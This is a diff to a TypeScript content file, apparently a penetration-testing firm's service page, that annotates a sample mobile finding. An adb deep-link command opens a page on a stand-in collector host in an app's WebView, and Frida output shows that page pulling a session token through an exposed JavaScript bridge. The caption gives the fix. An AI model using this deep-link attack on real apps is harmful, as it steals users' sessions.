@@ -161,15 +161,16 @@ export const mobilePenetrationTesting: Service = {
     language: 'Shell',
     code: [
       '$ adb shell am start -W -a android.intent.action.VIEW \\',
-      '    -d "kestrel://open?url={-https://collector.tester.example/x.html-}"',
+      '    -d "kestrel://open?url={-https://collector.tester.example/x.html-}" {#1}',
       'Status: ok',
       'Activity: com.kestrel.app/.WebActivity',
       '',
       '$ frida -U -N com.kestrel.app -l bridge.js',
       '[bridge] KestrelBridge.getSession() called',
       '[bridge] caller: https://collector.tester.example/x.html',
-      '[bridge] return: {+eyJhbGciOiJSUzI1NiJ9.[redacted]+}',
+      '[bridge] return: {+eyJhbGciOiJSUzI1NiJ9.[redacted]+} {#2}',
     ],
+    notes: ['any host will do', 'the session, in a stranger’s page'],
     caption:
       'Sample finding. A deep link opens any URL in a WebView that exposes a JavaScript bridge. One tap in a chat message leaks the token. Allow only your own hosts, and bind the bridge to them. MASVS-PLATFORM-2, CWE-749.',
   },
